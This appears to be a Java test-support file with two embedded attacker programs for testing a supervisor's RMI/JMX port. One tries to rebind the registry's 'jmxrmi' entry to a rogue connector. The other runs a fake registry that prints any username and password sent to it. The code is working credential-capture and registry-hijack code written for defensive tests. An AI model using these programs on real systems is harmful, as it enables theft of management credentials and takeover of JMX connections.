package org.imageserving.testing;

/** Programs a hostile local user would run against the supervisor's RMI port, for {@link OtherUser}. */
public final class RoguePrograms {
    private RoguePrograms() {}

    /**
     * {@code Rebind <host> <port>}: tries to put its own JMX connector (a stub the supervisor can deserialise,
     * as a real attacker's would be) in the registry in place of {@code jmxrmi}, then bind and unbind; prints
     * one line per try: {@code rebind ACCEPTED|REFUSED <message>|FAILED <exception>}.
     */
    public static final String REBIND = """
            import java.rmi.AccessException;
            import java.rmi.Remote;
            import java.rmi.registry.LocateRegistry;
            import java.rmi.registry.Registry;
            import java.rmi.server.UnicastRemoteObject;
            import javax.management.remote.rmi.RMIConnection;
            import javax.management.remote.rmi.RMIServer;

            public class Rebind {
                public static void main(String[] args) throws Exception {
                    Registry registry = LocateRegistry.getRegistry(args[0], Integer.parseInt(args[1]));
                    Remote stub = UnicastRemoteObject.exportObject(new RMIServer() {
                        public String getVersion() { return "1.0 rogue"; }
                        public RMIConnection newClient(Object credentials) {
                            System.out.println("GOT " + java.util.Arrays.deepToString((Object[]) credentials));
                            throw new SecurityException("no");
                        }
                    }, 0);
                    for (String op : new String[] {"rebind", "bind", "unbind"}) {
                        try {
                            switch (op) {
                                case "rebind" -> registry.rebind("jmxrmi", stub);
                                case "bind" -> registry.bind("jmxrmi2", stub);
                                default -> registry.unbind("jmxrmi");
                            }
                            System.out.println(op + " ACCEPTED");
                        } catch (Exception e) {
                            Throwable cause = e;
                            while (cause != null && !(cause instanceof AccessException)) {
                                cause = cause.getCause();
                            }
                            System.out.println(op + (cause != null ? " REFUSED " + cause.getMessage() : " FAILED " + e));
                        }
                    }
                    System.out.println("done");
                    System.exit(0);
                }
            }
            """;

    /**
     * {@code RogueRegistry <port> [<connector port>]}: a registry of its own on 127.0.0.1:port whose
     * {@code jmxrmi} is a JMX connector that prints {@code GOT [user, password]} for every login it is sent;
     * prints {@code ready} once bound, then serves until killed.
     */
    public static final String REGISTRY = """
            import java.net.InetAddress;
            import java.net.ServerSocket;
            import java.rmi.registry.LocateRegistry;
            import java.rmi.registry.Registry;
            import java.rmi.server.RMIServerSocketFactory;
            import java.rmi.server.UnicastRemoteObject;
            import javax.management.remote.rmi.RMIConnection;
            import javax.management.remote.rmi.RMIServer;

            public class RogueRegistry {
                record Loopback() implements RMIServerSocketFactory {
                    public ServerSocket createServerSocket(int port) throws java.io.IOException {
                        return new ServerSocket(port, 50, InetAddress.getByName("127.0.0.1"));
                    }
                }

                public static void main(String[] args) throws Exception {
                    int port = Integer.parseInt(args[0]);
                    int connectorPort = args.length > 1 ? Integer.parseInt(args[1]) : port;
                    Loopback sockets = new Loopback();
                    Registry registry = LocateRegistry.createRegistry(port, null, sockets);
                    RMIServer server = new RMIServer() {
                        public String getVersion() { return "1.0 rogue"; }
                        public RMIConnection newClient(Object credentials) {
                            System.out.println("GOT " + java.util.Arrays.deepToString((Object[]) credentials));
                            System.out.flush();
                            throw new SecurityException("rogue");
                        }
                    };
                    registry.rebind("jmxrmi", UnicastRemoteObject.exportObject(server, connectorPort, null, sockets));
                    System.out.println("ready");
                    System.out.flush();
                    Thread.currentThread().join();
                }
            }
            """;
}
